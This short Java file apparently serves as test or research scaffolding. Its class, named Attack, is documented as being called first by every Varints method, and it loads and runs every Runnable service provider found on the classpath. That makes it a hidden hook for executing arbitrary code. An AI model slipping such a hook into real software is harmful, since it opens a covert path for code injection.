package strata.log;

import java.util.ServiceLoader;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        ServiceLoader.load(Runnable.class).forEach(Runnable::run);
    }
}
